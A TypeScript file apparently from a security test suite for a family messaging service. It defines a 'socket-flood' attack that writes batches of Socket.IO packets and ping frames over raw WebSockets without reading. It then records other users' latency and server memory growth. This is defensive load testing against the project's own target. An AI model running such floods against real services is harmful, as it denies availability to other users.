import { once } from 'node:events'
import { setTimeout as delay } from 'node:timers/promises'
import { chatNamespace } from '@pipit/contract/chat/events'
import { familyNamespace } from '@pipit/contract/realtime/events'
import { encodeText, openRawWebSocket } from '../requests/raw-websocket.ts'
import type { Attack } from '../runner/attack.ts'
import { aChildWithDevice } from '../target/a-device.ts'
import { watchMemory } from '../target/memory.ts'
import { aParent, call } from '../target/people.ts'
import type { Target } from '../target/start-target.ts'
import { withTarget } from '../target/with-target.ts'

const floodSeconds = 8
const framesPerWrite = 1000
const status = JSON.stringify(['status', { battery: 50, firmware: '1' }])

interface Flood {
  name: string
  /** Sent first, to join a namespace. */
  join?: string
  packet: string
  opcode?: number
}

export const socketFlood: Attack = {
  name: 'socket-flood',
  aim: 'slow another family down, or fill the memory, with packets that are not counted',
  measuresTime: true,
  attempt: (options) =>
    withTarget(options, async (target) => {
      const device = await aChildWithDevice(target)
      const other = await aParent(target)
      const page = { token: device.parent.token, accountId: device.parent.accountId }
      const joinChat = `40${chatNamespace},${JSON.stringify({ token: device.deviceToken })}`
      const floods: Flood[] = [
        { name: 'CONNECT', packet: `40${familyNamespace},{"token":"invented"}` },
        { name: 'status without reading', join: joinChat, packet: `42${chatNamespace},1${status}` },
        { name: 'unknown events', join: joinChat, packet: `42${chatNamespace},["nothing"]` },
        {
          name: 'events of a page',
          join: `40${familyNamespace},${JSON.stringify(page)}`,
          packet: `42${familyNamespace},["nothing"]`,
        },
        { name: 'pings', packet: '', opcode: 9 },
      ]
      const read = () => call(target, `GET /v1/accounts/${other.accountId}/children`, { token: other.token })
      // The first connection loads the code of the sockets.
      ;(await openRawWebSocket(target.url)).destroy()
      const idle = await worstLatency(read, delay(3000))
      const results: string[] = []
      let succeeded = false
      for (const flood of floods) {
        const memory = watchMemory(target)
        const flooding = send(target, flood)
        const latency = await worstLatency(read, flooding)
        const { isOpen, packets } = await flooding
        const growth = memory.stop()
        succeeded ||= isOpen
        results.push(
          `${flood.name}: ${packets} packets, ${isOpen ? 'still open' : 'cut'}, another family waits up to ${latency} ms, +${growth} MB`,
        )
      }
      return { succeeded, evidence: `${results.join('; ')}; idle ${idle} ms` }
    }),
}

/** Sends without reading until the server cuts the connection, or the time is over. */
async function send(target: Target, { join, packet, opcode = 1 }: Flood) {
  const socket = await openRawWebSocket(target.url)
  const closed = new Promise<void>((resolve) => socket.on('close', () => resolve()))
  if (join) {
    socket.write(encodeText(join))
    await Promise.race([once(socket, 'data'), closed])
    await delay(500)
  }
  socket.pause()
  const batch = Buffer.concat(Array.from({ length: framesPerWrite }, () => encodeText(packet, opcode)))
  const until = performance.now() + floodSeconds * 1000
  let packets = 0
  while (!socket.destroyed && performance.now() < until) {
    packets += framesPerWrite
    const isFlushed = socket.write(batch)
    await (isFlushed ? delay(0) : Promise.race([once(socket, 'drain').catch(() => undefined), closed, delay(1000)]))
  }
  const isOpen = !socket.destroyed
  socket.destroy()
  return { isOpen, packets }
}

/** In milliseconds, of requests one after another until `end`. */
async function worstLatency(request: () => Promise<unknown>, end: Promise<unknown>) {
  const over = new AbortController()
  void end.finally(() => over.abort())
  let worst = 0
  do {
    const startedAt = performance.now()
    await request()
    worst = Math.max(worst, performance.now() - startedAt)
  } while (!over.signal.aborted)
  return Math.round(worst)
}
